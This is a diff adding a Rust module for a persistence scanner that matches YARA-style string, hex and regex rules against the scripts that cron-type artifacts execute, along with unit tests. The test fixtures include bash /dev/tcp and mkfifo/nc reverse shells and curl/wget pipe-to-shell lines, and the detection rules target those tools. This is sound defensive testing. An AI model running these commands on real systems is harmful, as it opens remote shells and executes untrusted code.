@@ -0,0 +1,417 @@
+//! `content:` conditions: YARA-style string, hex and regex patterns searched for in the file
+//! an artifact runs. For interpreters (`sh script.sh`, `powershell -File x.ps1`) that is the
+//! script rather than the interpreter binary.
+
+use anyhow::{anyhow, Context, Result};
+use regex::bytes::{Regex, RegexBuilder};
+use std::cell::RefCell;
+use std::collections::HashMap;
+use std::rc::Rc;
+
+use super::rule::ContentMatch;
+use super::Artifact;
+
+/// Files larger than this are not read unless a rule sets `max_size`.
+pub const DEFAULT_MAX_SIZE: u64 = 1024 * 1024;
+
+/// Reads the files artifacts refer to, from the system they were collected on.
+pub trait FileSource: Sync {
+    fn file_size(&self, path: &str) -> Option<u64>;
+    fn read_file(&self, path: &str) -> Option<Vec<u8>>;
+}
+
+/// Programs whose first non-option argument is a script file.
+const INTERPRETERS: &[&str] = &[
+    "sh", "bash", "dash", "zsh", "ksh", "fish", "python", "python2", "python3", "perl", "ruby", "php", "node",
+    "osascript", "powershell", "pwsh", "cmd", "wscript", "cscript", "mshta",
+];
+
+/// Wrappers that run the command that follows them.
+const WRAPPERS: &[&str] = &["env", "nohup", "exec", "sudo"];
+
+/// Interpreter options after which the code is inline, so there is no script file.
+const INLINE_CODE_FLAGS: &[&str] = &["-c", "-e", "-m", "-command", "-encodedcommand", "-enc", "-ec"];
+
+/// Interpreter options whose value is the script file.
+const SCRIPT_FLAGS: &[&str] = &["-file", "-f"];
+
+/// The files an artifact refers to, each read at most once while its rules are evaluated.
+pub struct ArtifactFiles<'a> {
+    source: &'a dyn FileSource,
+    paths: Vec<String>,
+    sizes: RefCell<HashMap<String, Option<u64>>>,
+    contents: RefCell<HashMap<String, Option<Rc<Vec<u8>>>>>,
+}
+
+impl<'a> ArtifactFiles<'a> {
+    pub fn new(source: &'a dyn FileSource, art: &Artifact) -> Self {
+        Self {
+            source,
+            paths: content_paths(art),
+            sizes: RefCell::default(),
+            contents: RefCell::default(),
+        }
+    }
+
+    /// Contents of each referenced file no larger than `max_size`.
+    fn files(&self, max_size: u64) -> impl Iterator<Item = Rc<Vec<u8>>> + '_ {
+        self.paths.iter().filter_map(move |path| {
+            let size = *self
+                .sizes
+                .borrow_mut()
+                .entry(path.clone())
+                .or_insert_with(|| self.source.file_size(path));
+            if size? > max_size {
+                return None;
+            }
+            self.contents
+                .borrow_mut()
+                .entry(path.clone())
+                .or_insert_with(|| self.source.read_file(path).map(Rc::new))
+                .clone()
+        })
+    }
+}
+
+/// The script given to an interpreter, or else the artifact's own path. Only absolute
+/// paths are kept: relative ones depend on a working directory we do not know.
+fn content_paths(art: &Artifact) -> Vec<String> {
+    let script = art.command.as_deref().and_then(interpreter_script);
+    let paths = match script {
+        Some(script) => script,
+        None => art.path.iter().cloned().collect(),
+    };
+    paths.into_iter().filter(|p| is_absolute(p)).collect()
+}
+
+/// Some(scripts) when the command runs an interpreter (possibly with no script file at all).
+fn interpreter_script(command: &str) -> Option<Vec<String>> {
+    let tokens = split_command(command);
+    let mut i = 0;
+    while tokens.get(i).is_some_and(|t| WRAPPERS.contains(&program_name(t).as_str())) {
+        i += 1;
+        while tokens.get(i).is_some_and(|t| t.starts_with('-') || t.contains('=')) {
+            i += 1;
+        }
+    }
+    if !INTERPRETERS.contains(&program_name(tokens.get(i)?).as_str()) {
+        return None;
+    }
+
+    let mut args = tokens[i + 1..].iter();
+    while let Some(arg) = args.next() {
+        let lower = arg.to_lowercase();
+        if INLINE_CODE_FLAGS.contains(&lower.as_str()) {
+            break;
+        }
+        if SCRIPT_FLAGS.contains(&lower.as_str()) {
+            return Some(args.next().cloned().into_iter().collect());
+        }
+        // Options, and cmd.exe's /c, /k, /q ...
+        let cmd_switch = arg.len() <= 3 && arg.starts_with('/') && !arg[1..].contains('/');
+        if arg.starts_with('-') || cmd_switch {
+            continue;
+        }
+        return Some(vec![arg.clone()]);
+    }
+    Some(vec![])
+}
+
+/// Lowercase file name without directory or .exe.
+fn program_name(token: &str) -> String {
+    let name = token.rsplit(['/', '\\']).next().unwrap_or(token).to_lowercase();
+    let name = name.strip_suffix(".exe").unwrap_or(&name).to_string();
+    // python3.11 and the like
+    match name.split_once('.') {
+        Some((base, ver)) if ver.chars().all(|c| c.is_ascii_digit() || c == '.') => base.to_string(),
+        _ => name,
+    }
+}
+
+/// Whitespace-separated words, with single and double quotes grouping.
+fn split_command(command: &str) -> Vec<String> {
+    let mut out = vec![];
+    let mut cur = String::new();
+    let mut quote = None;
+    let mut in_word = false;
+    for c in command.chars() {
+        match (quote, c) {
+            (Some(q), c) if c == q => quote = None,
+            (Some(_), c) => cur.push(c),
+            (None, '"' | '\'') => {
+                quote = Some(c);
+                in_word = true;
+            }
+            (None, c) if c.is_whitespace() => {
+                if in_word {
+                    out.push(std::mem::take(&mut cur));
+                    in_word = false;
+                }
+            }
+            (None, c) => {
+                cur.push(c);
+                in_word = true;
+            }
+        }
+    }
+    if in_word {
+        out.push(cur);
+    }
+    out
+}
+
+fn is_absolute(path: &str) -> bool {
+    let b = path.as_bytes();
+    path.starts_with('/') || (b.len() > 2 && b[1] == b':' && b[0].is_ascii_alphabetic())
+}
+
+/// A `content:` block compiled once at load time.
+#[derive(Debug, Clone)]
+pub struct CompiledContent {
+    patterns: Vec<Regex>,
+    /// How many patterns one file must match
+    need: usize,
+    max_size: u64,
+}
+
+impl CompiledContent {
+    pub fn compile(c: &ContentMatch) -> Result<Self> {
+        let mut patterns = vec![];
+        for s in &c.strings {
+            if s.is_empty() {
+                return Err(anyhow!("Empty content string"));
+            }
+            patterns.push(bytes_regex(&regex::escape(s), !c.case_sensitive, false)?);
+        }
+        for h in &c.hex {
+            let pattern = hex_pattern(h).with_context(|| format!("Invalid hex pattern: {}", h))?;
+            patterns.push(bytes_regex(&pattern, false, false)?);
+        }
+        for r in &c.regex {
+            let re = bytes_regex(r, !c.case_sensitive, true).with_context(|| format!("Invalid regex: {}", r))?;
+            patterns.push(re);
+        }
+        if patterns.is_empty() {
+            return Err(anyhow!("content needs at least one of strings, hex or regex"));
+        }
+
+        let need = parse_condition(c.condition.as_deref().unwrap_or("any of them"), patterns.len())?;
+        Ok(Self { patterns, need, max_size: c.max_size.unwrap_or(DEFAULT_MAX_SIZE) })
+    }
+
+    /// Whether one of the artifact's files matches enough patterns.
+    pub fn matches(&self, files: &ArtifactFiles) -> bool {
+        files.files(self.max_size).any(|data| {
+            let mut hits = 0;
+            self.patterns.iter().any(|p| {
+                if p.is_match(&data) {
+                    hits += 1;
+                }
+                hits >= self.need
+            })
+        })
+    }
+}
+
+fn bytes_regex(pattern: &str, case_insensitive: bool, unicode: bool) -> Result<Regex> {
+    Ok(RegexBuilder::new(pattern)
+        .case_insensitive(case_insensitive)
+        .unicode(unicode)
+        .dot_matches_new_line(!unicode)
+        .build()?)
+}
+
+/// "any of them", "all of them" or "N of them" ("these" works too) as a pattern count.
+fn parse_condition(cond: &str, total: usize) -> Result<usize> {
+    let words: Vec<String> = cond.split_whitespace().map(str::to_lowercase).collect();
+    let [count, of, them] = words.as_slice() else {
+        return Err(anyhow!("Invalid content condition '{}' (use any/all/N of them)", cond));
+    };
+    if of != "of" || (them != "them" && them != "these") {
+        return Err(anyhow!("Invalid content condition '{}' (use any/all/N of them)", cond));
+    }
+    let need = match count.as_str() {
+        "any" => 1,
+        "all" => total,
+        n => n.parse().map_err(|_| anyhow!("Invalid content condition '{}' (use any/all/N of them)", cond))?,
+    };
+    if need == 0 || need > total {
+        return Err(anyhow!("Content condition '{}' needs {} patterns but {} are given", cond, need, total));
+    }
+    Ok(need)
+}
+
+/// Hex bytes with `??` (any byte), `4?` / `?a` (any nibble) and `[n]` / `[n-m]` jumps, as a
+/// byte regex.
+fn hex_pattern(hex: &str) -> Result<String> {
+    let chars: Vec<char> = hex.chars().filter(|c| !c.is_whitespace()).collect();
+    let mut out = String::new();
+    let mut i = 0;
+    while i < chars.len() {
+        if chars[i] == '[' {
+            let end = chars[i..].iter().position(|c| *c == ']').ok_or_else(|| anyhow!("unclosed jump"))? + i;
+            let jump: String = chars[i + 1..end].iter().collect();
+            let valid = |s: &str| !s.is_empty() && s.chars().all(|c| c.is_ascii_digit());
+            match jump.split_once('-') {
+                Some((lo, hi)) if valid(lo) && valid(hi) => out.push_str(&format!(".{{{},{}}}", lo, hi)),
+                None if valid(&jump) => out.push_str(&format!(".{{{}}}", jump)),
+                _ => return Err(anyhow!("invalid jump [{}]", jump)),
+            }
+            i = end + 1;
+            continue;
+        }
+        let (hi, lo) = match (chars.get(i), chars.get(i + 1)) {
+            (Some(h), Some(l)) => (*h, *l),
+            _ => return Err(anyhow!("odd number of hex digits")),
+        };
+        let nibble = |c: char| if c == '?' { Ok(None) } else { c.to_digit(16).map(Some).ok_or_else(|| anyhow!("'{}' is not a hex digit", c)) };
+        match (nibble(hi)?, nibble(lo)?) {
+            (None, None) => out.push('.'),
+            (Some(h), Some(l)) => out.push_str(&format!("\\x{:02x}", h * 16 + l)),
+            (Some(h), None) => out.push_str(&format!("[\\x{:02x}-\\x{:02x}]", h * 16, h * 16 + 15)),
+            (None, Some(l)) => {
+                out.push('[');
+                for h in 0..16 {
+                    out.push_str(&format!("\\x{:02x}", h * 16 + l));
+                }
+                out.push(']');
+            }
+        }
+        i += 2;
+    }
+    if out.is_empty() {
+        return Err(anyhow!("empty hex pattern"));
+    }
+    Ok(out)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::sync::atomic::{AtomicUsize, Ordering};
+
+    /// Files held in memory, counting how often contents are read.
+    #[derive(Default)]
+    struct MemFiles {
+        files: HashMap<&'static str, Vec<u8>>,
+        reads: AtomicUsize,
+    }
+
+    impl MemFiles {
+        fn with(mut self, path: &'static str, data: impl Into<Vec<u8>>) -> Self {
+            self.files.insert(path, data.into());
+            self
+        }
+
+        fn reads(&self) -> usize {
+            self.reads.load(Ordering::Relaxed)
+        }
+    }
+
+    impl FileSource for MemFiles {
+        fn file_size(&self, path: &str) -> Option<u64> {
+            self.files.get(path).map(|d| d.len() as u64)
+        }
+
+        fn read_file(&self, path: &str) -> Option<Vec<u8>> {
+            self.reads.fetch_add(1, Ordering::Relaxed);
+            self.files.get(path).cloned()
+        }
+    }
+
+    fn artifact(command: &str, path: &str) -> Artifact {
+        Artifact {
+            kind: "linux_user_crontab".to_string(),
+            source: "/var/spool/cron/alice".to_string(),
+            name: String::new(),
+            user: Some("alice".to_string()),
+            command: Some(command.to_string()),
+            path: Some(path.to_string()),
+            raw: None,
+            attrs: Default::default(),
+        }
+    }
+
+    fn content(yaml: &str) -> CompiledContent {
+        CompiledContent::compile(&serde_yaml::from_str(yaml).unwrap()).unwrap()
+    }
+
+    fn matches(c: &CompiledContent, fs: &MemFiles, art: &Artifact) -> bool {
+        c.matches(&ArtifactFiles::new(fs, art))
+    }
+
+    #[test]
+    fn files_over_the_size_cutoff_are_not_read() {
+        let mut big = vec![b'#'; 4096];
+        big.extend_from_slice(b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n");
+        let fs = MemFiles::default().with("/opt/job.sh", big);
+        let art = artifact("/bin/sh /opt/job.sh", "/bin/sh");
+
+        assert!(!matches(&content("strings: [/dev/tcp/]\nmax_size: 4096"), &fs, &art));
+        assert_eq!(fs.reads(), 0);
+        assert!(matches(&content("strings: [/dev/tcp/]\nmax_size: 8192"), &fs, &art));
+        assert!(matches(&content("strings: [/dev/tcp/]"), &fs, &art));
+    }
+
+    #[test]
+    fn missing_files_do_not_match() {
+        let fs = MemFiles::default().with("/opt/other.sh", "curl http://x | sh");
+        let c = content("strings: [curl]");
+        assert!(!matches(&c, &fs, &artifact("/bin/sh /opt/missing.sh", "/bin/sh")));
+        assert!(!matches(&c, &fs, &artifact("/opt/missing", "/opt/missing")));
+        // Relative paths depend on a working directory we do not know
+        assert!(!matches(&c, &fs, &artifact("sh other.sh", "sh")));
+        // Inline code has no script file, and the interpreter itself is not searched
+        let fs = fs.with("/bin/sh", "curl");
+        assert!(!matches(&c, &fs, &artifact("/bin/sh -c 'curl http://x | sh'", "/bin/sh")));
+    }
+
+    #[test]
+    fn all_versus_any_of_them() {
+        let fs = MemFiles::default()
+            .with("/opt/one.sh", "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i")
+            .with("/opt/both.sh", "mkfifo /tmp/f; nc 10.0.0.1 4444 < /tmp/f")
+            .with("/opt/elf", b"\x7fELF\x02\x01\x01\x00".to_vec());
+        let one = artifact("bash /opt/one.sh", "/usr/bin/bash");
+        let both = artifact("env -i bash -x /opt/both.sh", "/usr/bin/env");
+
+        let any = content("strings: [MKFIFO, 'nc ']");
+        let all = content("strings: [mkfifo, 'nc ']\ncondition: all of them");
+        let two = content("strings: [mkfifo, 'nc ', /dev/tcp/]\ncondition: 2 of them");
+        assert!(matches(&any, &fs, &one) && matches(&any, &fs, &both));
+        assert!(!matches(&all, &fs, &one) && matches(&all, &fs, &both));
+        assert!(!matches(&two, &fs, &one) && matches(&two, &fs, &both));
+
+        let cased = content("strings: [MKFIFO]\ncase_sensitive: true");
+        assert!(!matches(&cased, &fs, &one));
+
+        let elf = artifact("/opt/elf --daemon", "/opt/elf");
+        assert!(matches(&content("hex: ['7f 45 4c 46 ?? 01']\nregex: ['^\\x7fELF']\ncondition: all of them"), &fs, &elf));
+        assert!(!matches(&content("hex: ['7f 45 4c 46 01']"), &fs, &elf));
+    }
+
+    #[test]
+    fn each_file_is_read_once_per_artifact() {
+        let fs = MemFiles::default().with("/opt/job.sh", "wget -q -O- http://x | sh");
+        let art = artifact("/bin/bash /opt/job.sh", "/bin/bash");
+        let files = ArtifactFiles::new(&fs, &art);
+        assert!(content("strings: [wget]").matches(&files));
+        assert!(!content("strings: [curl]").matches(&files));
+        assert_eq!(fs.reads(), 1);
+    }
+
+    #[test]
+    fn invalid_content_blocks_fail_to_compile() {
+        for (yaml, want) in [
+            ("strings: [a]\ncondition: 2 of them", "needs 2 patterns but 1 are given"),
+            ("strings: [a]\ncondition: most of them", "Invalid content condition"),
+            ("hex: ['4g']", "Invalid hex pattern: 4g"),
+            ("hex: ['4']", "Invalid hex pattern: 4"),
+            ("regex: ['(']", "Invalid regex: ("),
+            ("max_size: 10", "at least one of strings, hex or regex"),
+        ] {
+            let err = CompiledContent::compile(&serde_yaml::from_str(yaml).unwrap()).unwrap_err();
+            assert!(format!("{:#}", err).contains(want), "{}: {:#}", yaml, err);
+        }
+    }
+}